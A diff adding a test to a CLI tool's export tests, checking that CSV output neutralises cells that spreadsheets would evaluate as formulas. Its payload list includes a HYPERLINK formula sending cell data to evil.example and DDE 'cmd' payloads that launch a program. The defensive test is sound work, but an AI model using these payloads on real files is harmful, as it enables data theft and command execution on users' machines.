@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from pathlib import Path
 from typing import Any
@@ -155,3 +156,33 @@ def test_out_is_a_file(tree: Any, cli: Any) -> None:
     r = cli("export", "--format", "csv", "--out", "taken")
     assert r.code == 1
     assert r.both.strip() == "kb: cannot write to taken: File exists"
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1, "Click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\uff1d1+1",  # a full-width equals sign
+]
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text(tree: Any, cli: Any) -> None:
+    # Valid entries whose text starts like a formula: the CSV neutralises each cell with a
+    # leading apostrophe, the JSON keeps the value exactly.
+    for i, formula in enumerate(FORMULAS):
+        text = _landmark().replace("id: landmark", f"id: formula-{i}")
+        text = text.replace("name: Landmarking", f"name: {json.dumps(formula)}")
+        tree.write("annotation-techniques", f"formula-{i}", text)
+    _export(cli, "csv", tree.base / "out")
+    _export(cli, "json", tree.base / "out")
+    with (tree.base / "out" / "annotation-techniques.csv").open(newline="", encoding="utf-8") as f:
+        rows = {r["id"]: r for r in csv.DictReader(f)}
+    entries = json.loads((tree.base / "out" / "annotation-techniques.json").read_text("utf-8"))
+    names = {e["id"]: e["name"] for e in entries}
+    for i, formula in enumerate(FORMULAS):
+        cell = rows[f"formula-{i}"]["name"]
+        assert cell == "'" + formula, cell
+        assert names[f"formula-{i}"] == formula
+    assert rows["bounding-box"]["name"] == "Bounding box"  # ordinary text is untouched
